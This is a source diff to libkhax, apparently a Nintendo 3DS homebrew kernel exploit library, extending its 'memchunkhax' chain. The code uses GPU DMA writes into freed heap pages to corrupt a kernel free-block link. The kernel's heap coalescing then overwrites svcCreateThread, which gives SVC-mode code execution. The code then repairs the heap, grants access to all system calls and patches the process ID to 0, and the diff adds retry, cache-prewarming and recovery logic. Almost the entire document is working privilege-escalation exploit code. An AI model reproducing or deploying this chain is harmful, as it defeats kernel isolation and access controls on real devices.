+	static_assert(PriorityMath::RESOURCE_LIMIT_SIZE >= sizeof(KResourceLimit),
+		"khaxpriority.h disagrees with KResourceLimit.");
+	static_assert(PriorityMath::LOWEST_PRIORITY == 0x3F, "khaxpriority.h has the wrong priority range.");
+
 	//------------------------------------------------------------------------------------------------
 	// Make an error code
 	inline Result MakeError(Result level, Result summary, Result module, Result error);
 	enum : Result { KHAX_MODULE = 254 };
 	// Check whether this system is a New 3DS.
 	Result IsNew3DS(bool *answer, u32 kernelVersionAlreadyKnown = 0);
-	// gspwn, meant for reading from or writing to freed buffers.
+	// gspwn, meant for reading from or writing to freed buffers.  The first form uses the copy mode
+	// and cache policy of g_options.
 	Result GSPwn(void *dest, const void *src, std::size_t size, bool wait = true);
+	Result GSPwn(void *dest, const void *src, std::size_t size, KhaxGPUCopyMode mode, KhaxCachePolicy policy,
+		bool wait = true);
 	// Nuke the data cache with a bunch of bogus reads.
 	Result NukeDataCache();
+	// Run the whole memchunkhax sequence.  Implementation of khaxInit.
+	Result Initialize();
+	// Initialize, recording the outcome in the statistics and the attempt log.
+	Result InitializeAndRecord();
+	// Set up libkhax's locks, once for the life of the process.  Called by khaxInitEx and khaxExit.
+	void SetUpLocks();
+	// Check that kernel access is available, first doing a pending KHAX_INIT_LAZY initialization.
+	Result RequireKernelAccess();
+	// Time a fixed amount of CPU-bound work once, in system ticks, for checking the CPU clock.
+	u64 TimeSpinLoop();
+	// Run a function at SVC privilege through svcBackdoor, passing it a context pointer.
+	Result KernelCall(Result (*function)(void *context), void *context);
+	// Number of cores that an application's threads can be created on.
+	enum : unsigned { APPLICATION_CORE_COUNT = 2 };
+	// Run KernelCall on each application core in turn, through a thread pinned to that core.
+	// *reached receives a bit for each core that the function ran on; a core is skipped if the
+	// process can't create threads there.  Returns the first failure.
+	Result KernelCallOnEachCore(Result (*function)(void *context), void *context, u32 *reached);
+
+	// Version information for this system, once khaxInit has succeeded.
+	extern const VersionData *g_versionData;
+	// Options from the last khaxInitEx, or the defaults.
+	extern KhaxOptions g_options;
+	// Format a diagnostic message and send it to the log sink.
+	void LogPrintf(const char *format, ...);
+	// Wait for a VBlank and swap buffers, if logging to the console.
+	void LogPace();
 
 	static Result userFlushDataCache(const void *p, std::size_t n);
 	static Result userInvalidateDataCache(const void *p, std::size_t n);
@@ -230,6 +990,12 @@ namespace KHAX
 	static void userDmb();
 	static void kernelCleanDataCacheLineWithMva(const void *p);
 	static void kernelInvalidateInstructionCacheLineWithMva(const void *p);
+	static void kernelInvalidateTLBEntryWithMvaAndASID(u32 mva, u32 asid);
+	static u32 kernelGetCycleCounter();
+	static u32 kernelDisableInterrupts();
+	static void kernelRestoreInterrupts(u32 cpsr);
+	static bool kernelIsExecutable(const AddressTranslator &translator, const void *p);
+	static void kernelGrantSVCAccess(KSVCACL &acl);
 
 	// Given a pointer to a structure that is a member of another structure,
 	// return a pointer to the outer structure.  Inspired by Windows macro.
@@ -259,6 +1025,13 @@ KHAX::VersionData::KProcessPointers KHAX::VersionData::MakeKProcessPointers(void
 	result.m_svcAccessControl = &kproc->m_svcAccessControl;
 	result.m_processID = &kproc->m_processID;
 	result.m_kernelFlags = &kproc->m_kernelFlags;
+	result.m_translationTableBase = &kproc->m_translationTableBase;
+	result.m_contextID = &kproc->m_contextID;
+	result.m_codeSet = &kproc->m_codeSet;
+	result.m_mainThread = &kproc->m_mainThread;
+	result.m_handleTableSize = &kproc->m_handleTableSize;
+	result.m_handleTable = &kproc->m_handleTable;
+	result.m_resourceLimits = &kproc->m_resourceLimits;
 	return result;
 }
 
@@ -311,6 +1084,21 @@ void *KHAX::VersionData::ConvertLinearUserVAToKernelVA(void *address) const
 	return reinterpret_cast<char *>(m_fcramVirtualAddress) + (physical - m_fcramPhysicalAddress);
 }
 
+//------------------------------------------------------------------------------------------------
+// Convert an address in the kernel's read-only code mapping into the writable alias that
+// m_threadPatchAddress and m_syscallPatchAddress point into.
+void *KHAX::VersionData::ConvertKernelCodeToWritableVA(u32 address) const
+{
+	if ((address < m_kernelCodeAddress) || (address - m_kernelCodeAddress >= m_kernelCodeSize))
+	{
+		return nullptr;
+	}
+
+	// The alias is aligned to the region size, so it can be found from either patch address.
+	u32 writableBase = m_syscallPatchAddress & ~(m_kernelCodeSize - 1);
+	return reinterpret_cast<void *>(writableBase + (address - m_kernelCodeAddress));
+}
+
 //------------------------------------------------------------------------------------------------
 // Retrieve a VersionData for this kernel, or null if not recognized.
 const KHAX::VersionData *KHAX::VersionData::GetForCurrentSystem()
@@ -346,6 +1134,79 @@ const KHAX::VersionData *KHAX::VersionData::GetForCurrentSystem()
 }
 
 
+//------------------------------------------------------------------------------------------------
+//
+// Class AddressTranslator
+//
+
+//------------------------------------------------------------------------------------------------
+// Start of the linear heap in our address space, from ctrulib.
+extern "C" u32 __ctru_linear_heap;
+
+//------------------------------------------------------------------------------------------------
+// khaxConvertAddresses passes its KhaxAddressSpace arguments straight through.
+static_assert(KHAX::AddressTranslator::USER == static_cast<unsigned>(KHAX_ADDRESS_USER),
+	"AddressTranslator::Space doesn't match KhaxAddressSpace.");
+static_assert(KHAX::AddressTranslator::KERNEL == static_cast<unsigned>(KHAX_ADDRESS_KERNEL),
+	"AddressTranslator::Space doesn't match KhaxAddressSpace.");
+static_assert(KHAX::AddressTranslator::PHYSICAL == static_cast<unsigned>(KHAX_ADDRESS_PHYSICAL),
+	"AddressTranslator::Space doesn't match KhaxAddressSpace.");
+
+//------------------------------------------------------------------------------------------------
+// The translator built for this system, once GetAddressTranslator has finished building it.
+static KHAX::AddressTranslator s_addressTranslator;
+// 0 before the translator is built, 1 while it is, 2 once it can be copied.
+static volatile u32 s_addressTranslatorState = 0;
+
+//------------------------------------------------------------------------------------------------
+// ctrulib knows all of the user-mode mappings.
+static u32 UserToPhysical(u32 address)
+{
+	return osConvertVirtToPhys(reinterpret_cast<void *>(address));
+}
+
+//------------------------------------------------------------------------------------------------
+// The address translator for this system.  The kernel maps VRAM, DSP memory and AXI WRAM at
+// fixed offsets below its FCRAM mapping, in both the old and the 8.0.0 address layouts.  Threads
+// that race the first build just use their own copy.
+KHAX::AddressTranslator KHAX::GetAddressTranslator(const VersionData *versionData)
+{
+	if (s_addressTranslatorState == 2)
+	{
+		userDmb();
+		return s_addressTranslator;
+	}
+
+	u32 fcramKernel = versionData->m_fcramVirtualAddress;
+
+	// Where the linear heap sits in our address space depends on the kernel and on how the
+	// application was built, so work it out from ctrulib's heap.
+	u32 linearUser = __ctru_linear_heap - (osConvertVirtToPhys(reinterpret_cast<void *>(
+		__ctru_linear_heap)) - versionData->m_fcramPhysicalAddress);
+
+	const AddressTranslator::Region regions[AddressTranslator::REGION_COUNT] =
+	{
+		// VRAM
+		{ 0x18000000, 0x00600000, fcramKernel - 0x08000000, 0x1F000000, 0x00600000 },
+		// DSP memory
+		{ 0x1FF00000, 0x00080000, fcramKernel - 0x00100000, 0x1FF00000, 0x00080000 },
+		// AXI WRAM; only the configuration memory and shared pages are mapped for us.
+		{ 0x1FF80000, 0x00080000, fcramKernel - 0x00080000, 0x1FF80000, 0x00002000 },
+		// FCRAM
+		{ versionData->m_fcramPhysicalAddress, versionData->m_fcramSize, fcramKernel, linearUser,
+			versionData->m_fcramSize },
+	};
+	AddressTranslator translator(regions, UserToPhysical);
+
+	if (__sync_bool_compare_and_swap(&s_addressTranslatorState, 0, 1))
+	{
+		s_addressTranslator = translator;
+		userDmb();
+		s_addressTranslatorState = 2;
+	}
+	return translator;
+}
+
 //------------------------------------------------------------------------------------------------
 //
 // Class MemChunkHax
@@ -402,9 +1263,12 @@ Result KHAX::MemChunkHax::Step2_AllocateMemory()
 		return MakeError(26, 7, KHAX_MODULE, 1009);
 	}
 
-	// Allocate extra memory that we'll need.
-	m_extraLinear = static_cast<ExtraLinearMemory *>(linearMemAlign(sizeof(*m_extraLinear),
-		alignof(*m_extraLinear)));
+	// Allocate extra memory that we'll need, unless this is a retry and we already have it.
+	if (!m_extraLinear)
+	{
+		m_extraLinear = static_cast<ExtraLinearMemory *>(linearMemAlign(sizeof(*m_extraLinear),
+			alignof(*m_extraLinear)));
+	}
 	if (!m_extraLinear)
 	{
 		KHAX_printf("Step2:failed extra alloc\n");
@@ -514,8 +1378,10 @@ Result KHAX::MemChunkHax::Step4_VerifyExpectedLayout()
 		m_extraLinear->m_freeBlock.m_prev, m_extraLinear->m_freeBlock.m_count);
 
 	// The next page from the third should equal the fifth page.
-	if (m_extraLinear->m_freeBlock.m_next != m_versionData->ConvertLinearUserVAToKernelVA(
-		&m_overwriteMemory->m_pages[4]))
+	if (!LayoutRetry::CheckLink(KHAX_LOG_LAYOUT_NEXT_MISMATCH,
+		reinterpret_cast<std::uintptr_t>(m_extraLinear->m_freeBlock.m_next),
+		reinterpret_cast<std::uintptr_t>(m_versionData->ConvertLinearUserVAToKernelVA(&m_overwriteMemory->m_pages[4])),
+		&g_statistics.m_layoutFinding))
 	{
 		KHAX_printf("Step4:[2]->next != [4]\n");
 		KHAX_printf("Step4:%p %p %p\n", m_extraLinear->m_freeBlock.m_next,
@@ -541,8 +1407,10 @@ Result KHAX::MemChunkHax::Step4_VerifyExpectedLayout()
 		m_extraLinear->m_freeBlock.m_prev, m_extraLinear->m_freeBlock.m_count);
 
 	// The previous page from the fifth should equal the third page.
-	if (m_extraLinear->m_freeBlock.m_prev != m_versionData->ConvertLinearUserVAToKernelVA(
-		&m_overwriteMemory->m_pages[2]))
+	if (!LayoutRetry::CheckLink(KHAX_LOG_LAYOUT_PREV_MISMATCH,
+		reinterpret_cast<std::uintptr_t>(m_extraLinear->m_freeBlock.m_prev),
+		reinterpret_cast<std::uintptr_t>(m_versionData->ConvertLinearUserVAToKernelVA(&m_overwriteMemory->m_pages[2])),
+		&g_statistics.m_layoutFinding))
 	{
 		KHAX_printf("Step4:[4]->prev != [2]\n");
 		KHAX_printf("Step4:%p %p %p\n", m_extraLinear->m_freeBlock.m_prev,
@@ -566,11 +1434,16 @@ Result KHAX::MemChunkHax::Step5_CorruptCreateThread()
 		return MakeError(28, 5, KHAX_MODULE, 1016);
 	}
 
+#ifdef KHAX_DEBUG_DUMP_DATA
+	// These system calls have to happen while the heap is still intact.
+	CollectFacts();
+#endif
+
 	userInvalidateDataCache(m_extraLinear, sizeof(*m_extraLinear));
 	userDmb();
 
 	// Read the memory page we're going to gspwn.
-	if (Result result = GSPwn(m_extraLinear, &m_overwriteMemory->m_pages[2].m_freeBlock,
+	if (Result result = GSPwn(m_extraLinear, &m_overwriteMemory->m_pages[HeapRepair::RIGHT_PAGE].m_freeBlock,
 		sizeof(*m_extraLinear)))
 	{
 		KHAX_printf("Step5:gspwn read failed:%08lx\n", result);
@@ -580,49 +1453,124 @@ Result KHAX::MemChunkHax::Step5_CorruptCreateThread()
 	// Adjust the "next" pointer to point to within the svcCreateThread system call so as to
 	// corrupt certain instructions.  The result will be that calling svcCreateThread will result
 	// in executing our code.
-	// NOTE: The overwrite is modifying the "m_prev" field, so we subtract the offset of m_prev.
-	// That is, the overwrite adds this offset back in.
+	// NOTE: The overwrite is modifying the "m_prev" field, so ExploitLink subtracts the offset of
+	// m_prev.  That is, the overwrite adds this offset back in.
 	m_extraLinear->m_freeBlock.m_next = reinterpret_cast<HeapFreeBlock *>(
-		m_versionData->m_threadPatchAddress - offsetof(HeapFreeBlock, m_prev));
+		HeapRepair::ExploitLink(m_versionData->m_threadPatchAddress));
 
 	userFlushDataCache(&m_extraLinear->m_freeBlock.m_next,
 		sizeof(m_extraLinear->m_freeBlock.m_next));
 
 	// Do the GSPwn, the actual exploit we've been waiting for.
-	if (Result result = GSPwn(&m_overwriteMemory->m_pages[2].m_freeBlock, m_extraLinear,
+	if (Result result = GSPwn(&m_overwriteMemory->m_pages[HeapRepair::RIGHT_PAGE].m_freeBlock, m_extraLinear,
 		sizeof(*m_extraLinear)))
 	{
 		KHAX_printf("Step5:gspwn exploit failed:%08lx\n", result);
 		return result;
 	}
 
-	// The heap is now corrupted in two ways (Step6 explains why two ways).
+	// The heap is now corrupted in two ways (Step6 explains why two ways).  From here until
+	// Step6 returns, nothing may log: even with logging off, KHAX_printf waits for a VBlank.
 	m_corrupted += 2;
 
-	KHAX_printf("Step5:gspwn succeeded; heap now corrupt\n");
+	// Everything done from the free until Step6 returns should hit in the TLB and caches.  This
+	// has to come after the GSPwn: with KHAX_CACHE_NUKE, its walk over a 2 MB buffer evicts L1,
+	// a New 3DS's whole L2 and most of the TLB.  The prewarm only reads memory, making no system
+	// calls and no kernel allocations, so running it with the free block's link corrupt is safe.
+	PrewarmCorruptWindow();
 
 	// Corrupt svcCreateThread by freeing the second page.  The kernel will coalesce the third
 	// page into the second page, and in the process zap an instruction pair in svcCreateThread.
+	// Initialize runs Step6 straight after this returns.
 	u32 dummy;
-	if (Result result = svcControlMemory(&dummy, reinterpret_cast<u32>(&m_overwriteMemory->m_pages[1]),
-		0, sizeof(m_overwriteMemory->m_pages[1]), MEMOP_FREE, static_cast<MemPerm>(0)))
+	m_corruptWindowStart = svcGetSystemTick();
+	Page *left = &m_overwriteMemory->m_pages[HeapRepair::LEFT_PAGE];
+	if (Result result = svcControlMemory(&dummy, reinterpret_cast<u32>(left), 0, sizeof(*left), MEMOP_FREE,
+		static_cast<MemPerm>(0)))
 	{
 		KHAX_printf("Step5:free to pwn failed:%08lx\n", result);
 		return result;
 	}
-	m_overwriteAllocated &= ~(1u << 1);
+	m_overwriteAllocated &= ~(1u << HeapRepair::LEFT_PAGE);
 
 	userFlushPrefetch();
 
 	// We have an additional layer of instability because of the kernel code overwrite.
 	++m_corrupted;
 
-	KHAX_printf("Step5:svcCreateThread now hacked\n");
-
 	++m_nextStep;
 	return 0;
 }
 
+#ifdef KHAX_DEBUG_DUMP_DATA
+//------------------------------------------------------------------------------------------------
+// Record what user mode knows about this thread and process; Step6e adds the kernel addresses.
+// Called by Step5 before its first GSPwn, since nothing may make system calls once the heap is
+// corrupt.
+void KHAX::MemChunkHax::CollectFacts()
+{
+	std::memset(&m_savedFacts, 0, sizeof(m_savedFacts));
+	m_savedFacts.magic = KHAX_DUMP_FACTS_MAGIC;
+	m_savedFacts.version = KHAX_DUMP_FACTS_VERSION;
+	m_savedFacts.size = sizeof(m_savedFacts);
+	m_savedFacts.kernelVersion = m_versionData->m_kernelVersion;
+	m_savedFacts.new3DS = m_versionData->m_new3DS;
+	svcGetProcessId(&m_savedFacts.processID, m_versionData->m_currentKProcessHandle);
+	svcGetThreadId(&m_savedFacts.threadID, m_versionData->m_currentKThreadHandle);
+	svcGetThreadPriority(&m_savedFacts.threadPriority, m_versionData->m_currentKThreadHandle);
+	m_savedFacts.tlsUserMode = reinterpret_cast<std::uintptr_t>(getThreadLocalStorage());
+	m_savedFacts.kprocessSize = sizeof(m_savedKProcess);
+	m_savedFacts.kthreadSize = sizeof(m_savedKThread);
+}
+#endif
+
+//------------------------------------------------------------------------------------------------
+// Touch what the corrupted window from Step5's free to Step6's return uses, beforehand, so that
+// it doesn't take TLB or cache misses that could have been taken earlier.
+void KHAX::MemChunkHax::PrewarmCorruptWindow()
+{
+	// Data used at SVC privilege: this object, the version entry, s_instance, and the statistics
+	// that KernelCriticalSection records into.
+	PrewarmRange(this, sizeof(*this));
+	PrewarmRange(m_versionData, sizeof(*m_versionData));
+	PrewarmRange(&s_instance, sizeof(s_instance));
+	PrewarmRange(&g_statistics, sizeof(g_statistics));
+
+	// The system call wrappers and the SVC-mode entry thunk.  Instruction fetches can't be warmed
+	// from user mode, but reading the code loads its TLB entries, and on a New 3DS, its L2 lines.
+	PrewarmRange(reinterpret_cast<const void *>(svcControlMemory), PREWARM_CODE_SIZE);
+	PrewarmRange(reinterpret_cast<const void *>(svcCreateThread), PREWARM_CODE_SIZE);
+	PrewarmRange(reinterpret_cast<const void *>(Step6a_SVCEntryPointThunk), PREWARM_CODE_SIZE);
+
+	PrewarmStack();
+}
+
+//------------------------------------------------------------------------------------------------
+// Read one word per cache line of a range.
+void KHAX::MemChunkHax::PrewarmRange(const volatile void *address, std::size_t size)
+{
+	std::uintptr_t start = reinterpret_cast<std::uintptr_t>(address) & ~(CACHE_LINE_SIZE - 1);
+	std::uintptr_t end = reinterpret_cast<std::uintptr_t>(address) + size;
+	for (std::uintptr_t line = start; line < end; line += CACHE_LINE_SIZE)
+	{
+		*reinterpret_cast<const volatile u32 *>(line);
+	}
+}
+
+//------------------------------------------------------------------------------------------------
+// Touch the stack below the caller's frame, which Step6 will run in.
+#ifndef _MSC_VER
+__attribute__((__noinline__))
+#endif
+void KHAX::MemChunkHax::PrewarmStack()
+{
+	volatile unsigned char stack[PREWARM_STACK_SIZE];
+	for (std::size_t offset = 0; offset < sizeof(stack); offset += CACHE_LINE_SIZE)
+	{
+		stack[offset] = 0;
+	}
+}
+
 //------------------------------------------------------------------------------------------------
 // Execute svcCreateThread to execute code at SVC privilege.
 Result KHAX::MemChunkHax::Step6_ExecuteSVCCode()
@@ -644,7 +1592,11 @@ Result KHAX::MemChunkHax::Step6_ExecuteSVCCode()
 	Result result = svcCreateThread(&dummyHandle, nullptr, 0, nullptr, reinterpret_cast<s32>(
 		Step6a_SVCEntryPointThunk), (std::numeric_limits<s32>::max)());
 
-	KHAX_printf("Step6:SVC mode returned: %08lX %d\n", result, m_nextStep);
+	// That closes the window Step5 opened, whether or not the SVC-mode code ran.
+	g_statistics.m_corruptWindowTicks = static_cast<u32>(svcGetSystemTick() - m_corruptWindowStart);
+
+	KHAX_printf("Step6:SVC mode returned: %08lX %d after %lu ticks\n", result, m_nextStep,
+		g_statistics.m_corruptWindowTicks);
 
 	if (result != STEP6_SUCCESS_RESULT)
 	{
@@ -657,6 +1609,8 @@ Result KHAX::MemChunkHax::Step6_ExecuteSVCCode()
 		return result;
 	}
 
+	KHAX_printf("Step5:gspwn succeeded; svcCreateThread hacked\n");
+
 #ifdef KHAX_DEBUG
 	char oldACLString[KHAX_lengthof(m_oldACL) * 2 + 1];
 	char *sp = oldACLString;
@@ -696,19 +1650,34 @@ __attribute__((__noinline__))
 #endif
 Result KHAX::MemChunkHax::Step6b_SVCEntryPoint()
 {
+	// Interrupts are already disabled by the thunk, so this only measures the window; the saved
+	// CPSR has them masked, and they stay masked on the way back out, as the exploit expects.
+	KernelCriticalSection criticalSection;
+	KHAX_trace(STEP6B_ENTER, m_corrupted, reinterpret_cast<std::uintptr_t>(*m_versionData->m_currentKThreadPtr));
+
 	if (Result result = Step6c_UndoCreateThreadPatch())
 	{
+		KHAX_trace(STEP6B_LEAVE, result, m_corrupted);
 		return result;
 	}
+	// RecoverHeapCorruption already repaired the heap and only needs the patch undone.
+	if (m_corrupted == 0)
+	{
+		KHAX_trace(STEP6B_LEAVE, STEP6_SUCCESS_RESULT, m_corrupted);
+		return STEP6_SUCCESS_RESULT;
+	}
 	if (Result result = Step6d_FixHeapCorruption())
 	{
+		KHAX_trace(STEP6B_LEAVE, result, m_corrupted);
 		return result;
 	}
 	if (Result result = Step6e_GrantSVCAccess())
 	{
+		KHAX_trace(STEP6B_LEAVE, result, m_corrupted);
 		return result;
 	}
 
+	KHAX_trace(STEP6B_LEAVE, STEP6_SUCCESS_RESULT, m_corrupted);
 	return STEP6_SUCCESS_RESULT;
 }
 
@@ -727,6 +1696,7 @@ Result KHAX::MemChunkHax::Step6c_UndoCreateThreadPatch()
 		reinterpret_cast<void *>(m_versionData->m_threadPatchAddress));
 
 	--m_corrupted;
+	KHAX_trace(STEP6C_UNPATCHED, m_versionData->m_threadPatchAddress, m_versionData->m_threadPatchOriginalCode);
 
 	return 0;
 }
@@ -735,45 +1705,27 @@ Result KHAX::MemChunkHax::Step6c_UndoCreateThreadPatch()
 // Fix the heap corruption caused as a side effect of step 5.
 Result KHAX::MemChunkHax::Step6d_FixHeapCorruption()
 {
-	// The kernel's heap coalesce code seems to be like the following for the case we triggered,
-	// where we're freeing a block before ("left") an adjacent block ("right"):
-	//
-	// (1)  left->m_count += right->m_count;
-	// (2)  left->m_next = right->m_next;
-	// (3)  right->m_next->m_prev = left;
-	//
-	// (1) should have happened normally.  (3) is what we exploit: we set right->m_next to point
-	// to where we want to patch, such that the write to m_prev is the desired code overwrite.
-	// (2) is copying the value we put into right->m_next to accomplish (3).
-	//
-	// As a result of these shenanigans, we have two fixes to do to the heap: fix left->m_next to
-	// point to the correct next free block, and do the write to right->m_next->m_prev that didn't
-	// happen because it instead was writing to kernel code.
-
-	// "left" is the second overwrite page.
-	auto left = static_cast<HeapFreeBlock *>(m_versionData->ConvertLinearUserVAToKernelVA(
-		&m_overwriteMemory->m_pages[1].m_freeBlock));
-	// "right->m_next" is the fifth overwrite page.
-	auto rightNext = static_cast<HeapFreeBlock *>(m_versionData->ConvertLinearUserVAToKernelVA(
-		&m_overwriteMemory->m_pages[4].m_freeBlock));
-
-	// Do the two fixups.
-	left->m_next = rightNext;
-	--m_corrupted;
-
-	rightNext->m_prev = left;
-	--m_corrupted;
+	// The coalesce copied the exploit's link into left->m_next, and wrote left into kernel code
+	// instead of into the fifth page's m_prev.  HeapRepair::Coalesce has the details.  Both
+	// fix-ups are made directly, through the kernel's mapping of the pages.
+	HeapRepair::FixUp fixUps[HeapRepair::MAX_FIXUPS];
+	unsigned fixUpCount = HeapRepair::FixUps(HeapRepair::PLAN_REPAIR_COALESCE, fixUps);
+	for (unsigned x = 0; x < fixUpCount; ++x)
+	{
+		*reinterpret_cast<u32 *>(KernelFreeBlock(fixUps[x].m_page) + fixUps[x].m_offset) =
+			KernelFreeBlock(fixUps[x].m_targetPage);
+		m_corrupted -= fixUps[x].m_weight;
+	}
 
+	KHAX_trace(STEP6D_FIXED, KernelFreeBlock(HeapRepair::LEFT_PAGE), KernelFreeBlock(HeapRepair::NEXT_PAGE));
 	return 0;
 }
 
+
 //------------------------------------------------------------------------------------------------
 // Grant our process access to all system calls, including svcBackdoor.
 Result KHAX::MemChunkHax::Step6e_GrantSVCAccess()
 {
-	// Everything, except nonexistent services 00, 7E or 7F.
-	static constexpr const char s_fullAccessACL[] = "\xFE\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\xFF\x3F";
-
 	// Get the KThread pointer.  Its type doesn't vary, so far.
 	KThread *kthread = *m_versionData->m_currentKThreadPtr;
 
@@ -786,6 +1738,10 @@ Result KHAX::MemChunkHax::Step6e_GrantSVCAccess()
 	std::memcpy(m_savedKProcess, kprocess, sizeof(m_savedKProcess));
 	std::memcpy(m_savedKThread, kthread, sizeof(m_savedKThread));
 	std::memcpy(m_savedThreadSVC, svcData, sizeof(m_savedThreadSVC));
+
+	m_savedFacts.kprocessAddress = reinterpret_cast<std::uintptr_t>(kprocess);
+	m_savedFacts.kthreadAddress = reinterpret_cast<std::uintptr_t>(kthread);
+	m_savedFacts.svcRegisterState = reinterpret_cast<std::uintptr_t>(kthread->m_svcRegisterState);
 #endif
 
 	// Get a pointer to the SVC ACL within the SVC area for the thread.
@@ -795,9 +1751,12 @@ Result KHAX::MemChunkHax::Step6e_GrantSVCAccess()
 	// Save the old one for diagnostic purposes.
 	std::memcpy(m_oldACL, threadACL, sizeof(threadACL));
 
-	// Set the ACL for the current thread.
-	std::memcpy(threadACL, s_fullAccessACL, sizeof(threadACL));
+	// Set the ACL for the current thread, and for the process, so that threads created from now
+	// on, including libkhax's own helpers and a lazy initialization's caller, have it too.
+	kernelGrantSVCAccess(threadACL);
+	kernelGrantSVCAccess(*m_versionData->m_makeKProcessPointers(*m_versionData->m_currentKProcessPtr).m_svcAccessControl);
 
+	KHAX_trace(STEP6E_GRANTED, reinterpret_cast<std::uintptr_t>(kthread), *reinterpret_cast<const u32 *>(m_oldACL));
 	return 0;
 }
 
@@ -864,8 +1823,7 @@ Result KHAX::MemChunkHax::Step7_GrantServiceAccess()
 Result KHAX::MemChunkHax::Step7a_PatchPID()
 {
 	// Disable interrupts ASAP.
-	// FIXME: Need a better solution for this.
-	__asm__ volatile("cpsid aif");
+	KernelCriticalSection criticalSection;
 
 	// Patch the PID to 0.  The version data has a function pointer in m_makeKProcessPointers
 	// to translate the raw KProcess pointer into pointers into key fields, and we access the
@@ -880,8 +1838,7 @@ Result KHAX::MemChunkHax::Step7a_PatchPID()
 Result KHAX::MemChunkHax::Step7b_UnpatchPID()
 {
 	// Disable interrupts ASAP.
-	// FIXME: Need a better solution for this.
-	__asm__ volatile("cpsid aif");
+	KernelCriticalSection criticalSection;
 
 	// Patch the PID back to the original value.
 	*(s_instance->m_versionData->m_makeKProcessPointers(*s_instance->m_versionData->m_currentKProcessPtr)
@@ -890,46 +1847,211 @@ Result KHAX::MemChunkHax::Step7b_UnpatchPID()
 }
 
 //------------------------------------------------------------------------------------------------
-// Helper for dumping memory to SD card.
-template <std::size_t S>
-bool KHAX::MemChunkHax::DumpMemberToSDCard(const unsigned char(MemChunkHax::*member)[S], const char *filename) const
+// Undo steps 2 and 3 after Step4 found an unexpected layout, so that Step2 can run again.
+// Nothing has been corrupted at that point, so this is safe.  To make the next attempt land
+// somewhere else in the heap, keep a spacer allocation that grows by a page with each attempt.
+Result KHAX::MemChunkHax::PrepareLayoutRetry(unsigned attempt)
 {
-	char formatted[32];
-	snprintf(formatted, KHAX_lengthof(formatted), filename,
-		static_cast<unsigned>(m_versionData->m_kernelVersion), m_versionData->m_new3DS ?
-		"New" : "Old");
-
-	bool result = true;
-
-	FILE *file = std::fopen(formatted, "wb");
-	if (file)
+	if ((m_nextStep != 4) || (m_corrupted > 0))
 	{
-		result = result && (std::fwrite(this->*member, 1, sizeof(this->*member), file) == 1);
-		std::fclose(file);
+		KHAX_printf("MemChunkHax: Invalid step number %d for PrepareLayoutRetry\n", m_nextStep);
+		return MakeError(28, 5, KHAX_MODULE, 1016);
 	}
-	else
+
+	FreeOverwriteMemory();
+
+	// Failing to get a spacer isn't fatal; the heap may have changed by itself anyway.
+	static_assert(LayoutRetry::PAGE_SIZE == sizeof(Page), "khaxretry.h has the wrong page size.");
+	if (u32 size = LayoutRetry::SpacerSize(attempt, m_spacerCount, KHAX_lengthof(m_spacers)))
 	{
-		result = false;
+		u32 address = 0xFFFFFFFF;
+		Result result = svcControlMemory(&address, 0, 0, size, MEMOP_ALLOC_LINEAR,
+			static_cast<MemPerm>(MEMPERM_READ | MEMPERM_WRITE));
+		if (result == 0)
+		{
+			m_spacers[m_spacerCount].m_address = address;
+			m_spacers[m_spacerCount].m_size = size;
+			++m_spacerCount;
+		}
 	}
 
-	return result;
+	m_nextStep = 2;
+	return 0;
 }
 
 //------------------------------------------------------------------------------------------------
-// Free memory and such.
-KHAX::MemChunkHax::~MemChunkHax()
+// Whether a result from Step4_VerifyExpectedLayout means the layout check itself failed, as
+// opposed to something like GSPwn failing.
+bool KHAX::MemChunkHax::IsLayoutMismatch(Result result)
 {
-	// Dump memory to SD card if that is enabled.
-#ifdef KHAX_DEBUG_DUMP_DATA
+	return result == MakeError(26, 5, KHAX_MODULE, 1014);
+}
+
+//------------------------------------------------------------------------------------------------
+// Free whichever of the overwrite pages are still allocated.  Has to be careful not to crash
+// trying to shut down after an aborted attempt.
+void KHAX::MemChunkHax::FreeOverwriteMemory()
+{
+	if (m_overwriteMemory)
+	{
+		u32 dummy;
+
+		// Each page has a flag indicating that it is still allocated.
+		for (unsigned x = 0; x < KHAX_lengthof(m_overwriteMemory->m_pages); ++x)
+		{
+			// Don't free a page unless it remains allocated.
+			if (m_overwriteAllocated & (1u << x))
+			{
+				Result res = svcControlMemory(&dummy, reinterpret_cast<u32>(&m_overwriteMemory->m_pages[x]), 0,
+					sizeof(m_overwriteMemory->m_pages[x]), MEMOP_FREE, static_cast<MemPerm>(0));
+				KHAX_printf("free %u: %08lx\n", x, res);
+				KHAX_UNUSED(res);
+			}
+		}
+	}
+
+	m_overwriteMemory = nullptr;
+	m_overwriteAllocated = 0;
+}
+
+//------------------------------------------------------------------------------------------------
+// Try to repair heap corruption from user mode after a failed step, so that we can exit cleanly
+// rather than freezing.  What can be repaired depends on how far Step5 got:
+//
+// m_corrupted == 2: The exploit write landed in the third page's free block, but freeing the
+//     second page failed, so the kernel never coalesced.  Restoring the third page's m_next to
+//     the fifth page, as Step4 verified it was, undoes everything.
+// m_corrupted == 3: The coalesce happened, so svcCreateThread is patched, but Step6 never got
+//     control.  The two fix-ups of Step6d_FixHeapCorruption are writes into freed pages, which
+//     GSPwn can do, so the heap can be repaired.  The patched svcCreateThread is then still our
+//     way into SVC mode, and with nothing else left to fix, Step6b only undoes the patch.  Only
+//     if that fails do we still have to freeze, since a later svcCreateThread would crash.
+//
+// HeapRepair::Choose makes the decision.  Once Step6 has run, Step6c and Step6d have already
+// undone everything.
+Result KHAX::MemChunkHax::RecoverHeapCorruption()
+{
+	if (!m_overwriteMemory || !m_extraLinear)
+	{
+		return MakeError(28, 5, KHAX_MODULE, 1016);
+	}
+
+	HeapRepair::Plan plan = HeapRepair::Choose(m_corrupted,
+		(m_overwriteAllocated & (1u << HeapRepair::LEFT_PAGE)) != 0);
+	if (plan == HeapRepair::PLAN_NONE)
+	{
+		KHAX_printf("~:no recovery for %d\n", m_corrupted);
+		return MakeError(27, 5, KHAX_MODULE, 1012);
+	}
+
+	// The writes are into freed pages, so they go through the GPU.
+	HeapRepair::FixUp fixUps[HeapRepair::MAX_FIXUPS];
+	unsigned fixUpCount = HeapRepair::FixUps(plan, fixUps);
+	for (unsigned x = 0; x < fixUpCount; ++x)
+	{
+		if (Result result = RewriteFreeBlockLink(&m_overwriteMemory->m_pages[fixUps[x].m_page],
+			fixUps[x].m_offset, KernelFreeBlock(fixUps[x].m_targetPage)))
+		{
